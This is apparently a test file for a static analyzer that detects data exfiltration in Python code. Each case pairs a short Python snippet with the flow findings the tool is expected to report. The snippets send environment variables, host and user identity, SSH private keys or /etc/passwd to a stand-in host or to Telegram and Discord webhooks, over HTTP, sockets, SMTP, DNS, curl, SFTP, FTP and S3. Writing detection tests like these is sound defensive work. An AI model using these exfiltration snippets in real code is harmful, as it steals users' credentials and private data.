import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { evaluate, lines } from '../../../support/evaluated.ts';

/** Name, the source of `own.py` or all files, and the facts in the order they are found. */
const CASES: [string, string | Record<string, string>, string[]][] = [
  [
    'env all post',
    `import os, requests
requests.post('http://a.invalid', data=dict(os.environ))`,
    ['own.py:2 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'env json',
    `import os, json, requests
requests.post('http://a.invalid', json={'e': {k: v for k, v in os.environ.items()}})`,
    ['own.py:2 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'env named',
    `import os, requests
requests.get('http://a.invalid/' + os.environ['HOME'])`,
    [
      'own.py:2 import flow environment os.environ HOME > network-address requests.get http://a.invalid/%HOME%',
      'own.py:2 import flow environment os.environ HOME > network-send requests.get http://a.invalid/%HOME%',
    ],
  ],
  [
    'list append',
    `import os, socket, requests
out = []
out.append(socket.gethostname())
out.append(os.getlogin())
requests.get('http://a.invalid/' + ','.join(out))`,
    [
      'own.py:5 import flow host-identity socket.gethostname > network-address requests.get http://a.invalid/«socket.gethostname»,«os.getlogin»',
      'own.py:5 import flow user-identity os.getlogin > network-address requests.get http://a.invalid/«socket.gethostname»,«os.getlogin»',
      'own.py:5 import flow host-identity socket.gethostname > network-send requests.get http://a.invalid/«socket.gethostname»,«os.getlogin»',
      'own.py:5 import flow user-identity os.getlogin > network-send requests.get http://a.invalid/«socket.gethostname»,«os.getlogin»',
    ],
  ],
  [
    'dict build',
    `import os, requests
d = {}
d['e'] = dict(os.environ)
requests.post('http://a.invalid', json=d)`,
    ['own.py:4 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'function param',
    `import os, requests
def send(x):
    requests.post('http://a.invalid', data=x)
def collect():
    return dict(os.environ)
send(collect())`,
    ['own.py:3 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'class field',
    `import os, requests
class S:
    def __init__(self): self.d = None
    def collect(self): self.d = dict(os.environ)
    def send(self): requests.post('http://a.invalid', json=self.d)
s = S(); s.collect(); s.send()`,
    ['own.py:5 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'class never called',
    `import os, requests
class S:
    def collect(self): self.d = dict(os.environ)
    def send(self): requests.post('http://a.invalid', json=self.d)`,
    ['own.py:4 call flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'global var',
    `import os, requests
D = None
def collect():
    global D
    D = dict(os.environ)
def send():
    requests.post('http://a.invalid', json=D)
collect(); send()`,
    ['own.py:7 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'via file',
    `import os, requests, json
json.dump(dict(os.environ), open('/tmp/o.json', 'w'))
requests.post('http://a.invalid', files={'f': open('/tmp/o.json', 'rb')})`,
    [
      'own.py:2 import flow environment-all os.environ > file-write json.dump /tmp/o.json',
      'own.py:3 import flow environment-all os.environ > network-send requests.post http://a.invalid by written to /tmp/o.json:2, read back from /tmp/o.json:3',
      'own.py:3 import flow written-file open /tmp/o.json > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'via file write',
    `import os, requests
with open('/tmp/o.txt', 'w') as f:
    f.write(str(os.environ))
with open('/tmp/o.txt') as f:
    requests.post('http://a.invalid', data=f.read())`,
    [
      'own.py:3 import flow environment-all os.environ > file-write open /tmp/o.txt',
      'own.py:5 import flow environment-all os.environ > network-send requests.post http://a.invalid by written to /tmp/o.txt:3, read back from /tmp/o.txt:5',
      'own.py:5 import flow written-file open /tmp/o.txt > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'via print file',
    `import os, requests
with open('/tmp/o.txt', 'w') as f:
    print(os.environ, file=f)
requests.post('http://a.invalid', data=open('/tmp/o.txt').read())`,
    [
      'own.py:3 import flow environment-all os.environ > file-write builtins.print /tmp/o.txt',
      'own.py:4 import flow environment-all os.environ > network-send requests.post http://a.invalid by written to /tmp/o.txt:3, read back from /tmp/o.txt:4',
      'own.py:4 import flow written-file open /tmp/o.txt > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'zip',
    `import os, zipfile, requests
with zipfile.ZipFile('/tmp/o.zip', 'w') as z:
    z.write(os.path.expanduser('~/.ssh/id_rsa'))
requests.post('http://a.invalid', files={'f': open('/tmp/o.zip', 'rb')})`,
    [
      'own.py:3 import flow credential-file zipfile.ZipFile.write ~/.ssh/id_rsa > file-write zipfile.ZipFile.write /tmp/o.zip',
      'own.py:4 import flow credential-file zipfile.ZipFile.write ~/.ssh/id_rsa > network-send requests.post http://a.invalid by written to /tmp/o.zip:3, read back from /tmp/o.zip:4',
      'own.py:4 import flow written-file open /tmp/o.zip > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'across modules',
    {
      'own/__init__.py': `from .collect import gather
from .net import send
send(gather())`,
      'own/collect.py': `import os
def gather(): return dict(os.environ)`,
      'own/net.py': `import requests
def send(d): requests.post('http://a.invalid', json=d)`,
    },
    ['own/net.py:2 import flow environment-all os.environ > network-send requests.post http://a.invalid'],
  ],
  [
    'b64 encoded',
    `import os, base64, requests
requests.get('http://a.invalid/' + base64.b64encode(str(dict(os.environ)).encode()).decode())`,
    [
      'own.py:2 import flow environment-all os.environ > network-address requests.get http://a.invalid/«base64.b64encode.decode»',
      'own.py:2 import flow environment-all os.environ > network-send requests.get http://a.invalid/«base64.b64encode.decode»',
    ],
  ],
  [
    'socket',
    `import socket, os
s = socket.socket()
s.connect(('a.invalid', 80))
s.send(str(os.environ).encode())`,
    ['own.py:4 import flow environment-all os.environ > network-send socket.socket.send «os.environ.encode»'],
  ],
  [
    'http client',
    `import http.client, os
c = http.client.HTTPSConnection('a.invalid')
c.request('POST', '/', str(os.environ))`,
    [
      'own.py:3 import flow environment-all os.environ > network-send http.client.HTTPSConnection.request a.invalid',
    ],
  ],
  [
    'urlopen request',
    `import urllib.request, os, json
r = urllib.request.Request('http://a.invalid', data=json.dumps(dict(os.environ)).encode())
urllib.request.urlopen(r)`,
    [
      'own.py:3 import flow environment-all os.environ > network-address urllib.request.urlopen http://a.invalid',
      'own.py:3 import flow environment-all os.environ > network-send urllib.request.urlopen http://a.invalid',
    ],
  ],
  [
    'smtp',
    `import smtplib, os
s = smtplib.SMTP('a.invalid')
s.sendmail('a', 'b', str(os.environ))`,
    ['own.py:3 import flow environment-all os.environ > network-send smtplib.SMTP.sendmail a.invalid'],
  ],
  [
    'email msg',
    `import smtplib, os
from email.mime.text import MIMEText
m = MIMEText(str(os.environ))
smtplib.SMTP('a.invalid').send_message(m)`,
    ['own.py:4 import flow environment-all os.environ > network-send smtplib.SMTP.send_message a.invalid'],
  ],
  [
    'dns',
    `import socket
socket.gethostbyname(socket.gethostname() + '.a.invalid')`,
    [
      'own.py:2 import flow host-identity socket.gethostname > dns-name socket.gethostbyname «socket.gethostname».a.invalid',
    ],
  ],
  [
    'curl env',
    `import os
os.system('curl -d "%s" http://a.invalid' % os.environ)`,
    [
      'own.py:2 import flow environment-all os.environ > process os.system curl -d "«os.environ»" http://a.invalid',
    ],
  ],
  [
    'telegram',
    `import requests, os
T = '123456:AAAA'
requests.get(f'https://api.telegram.org/bot{T}/sendMessage?chat_id=1&text={os.environ}')`,
    [
      'own.py:3 import flow environment-all os.environ > network-address requests.get https://api.telegram.org/bot123456:AAAA/sendMessage?chat_id=1&text=«os.environ»',
      'own.py:3 import flow environment-all os.environ > network-send requests.get https://api.telegram.org/bot123456:AAAA/sendMessage?chat_id=1&text=«os.environ»',
    ],
  ],
  [
    'webhook module',
    `from dhooks import Webhook
import os
Webhook('https://discord.com/api/webhooks/1/x').send(str(os.environ))`,
    [
      'own.py:3 import flow environment-all os.environ > network-send dhooks.Webhook.send https://discord.com/api/webhooks/1/x',
    ],
  ],
  [
    'discord_webhook',
    `from discord_webhook import DiscordWebhook
import os
w = DiscordWebhook(url='https://discord.com/api/webhooks/1/x', content=str(os.environ))
w.execute()`,
    [
      'own.py:3 import flow environment-all os.environ > network-send discord_webhook.DiscordWebhook https://discord.com/api/webhooks/1/x',
      'own.py:3 import flow environment-all os.environ > network-address discord_webhook.DiscordWebhook https://discord.com/api/webhooks/1/x',
      'own.py:4 import flow environment-all os.environ > network-send discord_webhook.DiscordWebhook.execute',
    ],
  ],
  [
    'env subprocess',
    `import subprocess, requests
requests.post('http://a.invalid', data=subprocess.getoutput('env'))`,
    [
      'own.py:2 import flow environment-all subprocess.getoutput env > network-send requests.post http://a.invalid',
    ],
  ],
  [
    'paramiko',
    `import paramiko, os
c = paramiko.SSHClient(); c.connect('a.invalid'); s = c.open_sftp(); s.put('/etc/passwd', 'x')`,
    [
      'own.py:2 import flow system-file paramiko.SSHClient.open_sftp.put /etc/passwd > network-send paramiko.SSHClient.open_sftp.put /etc/passwd',
    ],
  ],
  [
    'ftp',
    `import ftplib
f = ftplib.FTP('a.invalid'); f.storbinary('STOR x', open('/etc/passwd', 'rb'))`,
    ['own.py:2 import flow system-file open /etc/passwd > network-send ftplib.FTP.storbinary a.invalid'],
  ],
  [
    'boto',
    `import boto3
s = boto3.client('s3'); s.upload_file('/etc/passwd', 'b', 'k')`,
    [
      'own.py:2 import flow system-file boto3.client.upload_file /etc/passwd > network-send boto3.client.upload_file /etc/passwd',
    ],
  ],
];

describe('ways of sending', () => {
  for (const [name, files, expected] of CASES) {
    it(name, () => assert.deepEqual(lines(evaluate(files), 'flow'), expected));
  }
});
